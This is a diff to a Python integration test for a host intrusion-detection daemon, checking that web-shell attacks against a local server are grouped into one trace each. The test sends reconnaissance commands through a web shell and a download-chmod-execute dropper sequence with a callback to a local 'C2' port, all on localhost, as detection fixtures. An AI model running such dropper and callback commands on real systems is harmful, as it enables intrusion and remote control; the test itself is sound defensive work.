@@ -36,6 +36,7 @@ pytestmark = pytest.mark.root
 
 THRESHOLD = 40
 SETTLE = 6.0  # trace_settle: the whole attack (container included) fits well inside
+IDLE = 10.0  # trace_idle: a quiet spell that long ends a trace (the default is an hour)
 SUPPRESS = """\
 - suppress: quiet maintenance
   reason: the test's maintenance wrapper (a copy of env in the test's /tmp directory)
@@ -50,7 +51,7 @@ def daemon(tmp_path_factory, journald):
     (base / "suppress.d").mkdir()
     (base / "suppress.d" / "test.yaml").write_text(SUPPRESS)
     cfg = write_config(base, settle=1.0, trace_threshold=THRESHOLD, trace_settle=SETTLE,
-                       fold_window=60.0, suppressions=[str(base / "suppress.d")],
+                       trace_idle=IDLE, fold_window=60.0, suppressions=[str(base / "suppress.d")],
                        jsonl=str(base / "findings.jsonl"))
     d = TestSpyderd(base, cfg)
     d.start()
@@ -271,6 +272,90 @@ def _check_html(daemon, tid: str, attack: dict, tmp_path: Path) -> None:
         assert b.requests == [url], b.requests  # the page itself, nothing else
     finally:
         b.close()
+
+
+# -- one trace per attack ------------------------------------------------------------------
+
+@pytest.fixture
+def server():
+    """A long-lived web shell server, and the attacker's payload and C2 servers."""
+    port = free_port()
+    web = subprocess.Popen([sys.executable, str(REPO / "tests/integration/attack_server.py"),
+                            str(port)])
+
+    def up():
+        try:
+            socket.create_connection(("127.0.0.1", port), timeout=0.2).close()
+            return True
+        except OSError:
+            return False
+
+    assert wait_for(up, 10), "web server did not start"
+    script = (f"#!/bin/sh\nexec {sys.executable} -c 'import socket,sys; "
+              "socket.create_connection((\"127.0.0.1\", int(sys.argv[1]))).close()' \"$1\"\n")
+    srv = Payloads(script.encode())
+    yield web, port, srv
+    web.kill()
+    web.wait()
+    srv.close()
+
+
+def _get(port: int, cmd: str) -> None:
+    url = f"http://127.0.0.1:{port}/?cmd={urllib.parse.quote(cmd)}"
+    assert urllib.request.urlopen(url, timeout=60).read() == b"rc=0\n"
+
+
+def test_one_trace_per_attack_on_a_long_lived_server(daemon, server):
+    """Two attacks an idle gap apart are two traces of the same server; one attack that
+    downloads a file in one request and runs it from the next is one trace."""
+    web, port, srv = server
+    tag = uuid.uuid4().hex[:6]
+    drop = f"/tmp/spyder-drop-{tag}"
+    try:
+        _get(port, f"id; whoami; /bin/true spyder-split1-{tag}")
+        first = wait_findings(daemon, lambda fs: _of(fs, f"spyder-split1-{tag}", 2))
+        time.sleep(IDLE + 1)  # a quiet spell longer than findings.trace_idle
+        _get(port, f"uname -a; /bin/true spyder-split2-{tag}")
+        second = wait_findings(daemon, lambda fs: _of(fs, f"spyder-split2-{tag}", 2))
+        _get(port, f"curl -s -o {drop} http://127.0.0.1:{srv.port}/payload; chmod +x {drop}")
+        _get(port, f"{drop} {srv.c2_port}")
+        assert srv.hits == ["/payload"] and len(srv.callbacks) == 1
+
+        def dropper(fs):
+            mine = [f for f in fs if drop in f["message"] or (
+                f["rule"] == "Test: outbound connection below a web server"
+                and f["root_id"] == first[0]["root_id"] and f["time"] > second[0]["time"])]
+            rules = {f["rule"] for f in mine}
+            want = {"Test: download tool below a web server", "Test: chmod +x in /tmp",
+                    "Test: program run from /tmp", "Test: outbound connection below a web server"}
+            return mine if want <= rules else None
+
+        third = wait_findings(daemon, dropper)
+    finally:
+        Path(drop).unlink(missing_ok=True)
+    time.sleep(3)  # the findings settle and go out; a merge may still move one
+    by_id = {f["id"]: f for f in daemon.findings()}
+    ids = [{by_id[f["id"]]["trace_id"] for f in group} for group in (first, second, third)]
+    assert all(len(t) == 1 for t in ids), ids  # each attack in one trace
+    t1, t2, t3 = (t.pop() for t in ids)
+    assert len({t1, t2, t3}) == 3, (t1, t2, t3)
+    roots = {by_id[f["id"]]["root_id"] for f in first + second + third}
+    assert len(roots) == 1  # all below the same server
+    traces = {t["id"]: t for t in daemon.json_lines("traces")}
+    assert traces[t3]["root_pid"] == web.pid and len(traces[t3]["units"]) == 2  # 2 requests
+    merged = [t for t in traces.values() if t.get("merged_into") == t3]
+    assert merged, "the run from the second request started a trace of its own first"
+    view = json.loads(daemon.ctl("trace", merged[0]["id"], "-o", "json", check=True).stdout)
+    assert view["id"] == t3  # the merged id shows the attack's trace
+    accepted = [n for n in view["nodes"] if n["kind"] == "connection"
+                and n.get("direction") == "in" and n["process_id"] == view["root"]]
+    assert len(accepted) == 2, accepted  # its two requests, not every request served
+
+
+def _of(fs: list[dict], marker: str, n: int) -> list[dict] | None:
+    """The findings of the attack whose shell command carries `marker` (at least n)."""
+    mine = [f for f in fs if marker in f["message"] or marker in json.dumps(f.get("chain"))]
+    return mine if len(mine) >= n else None
 
 
 # -- a deep chain in plain journalctl -o json ------------------------------------------------
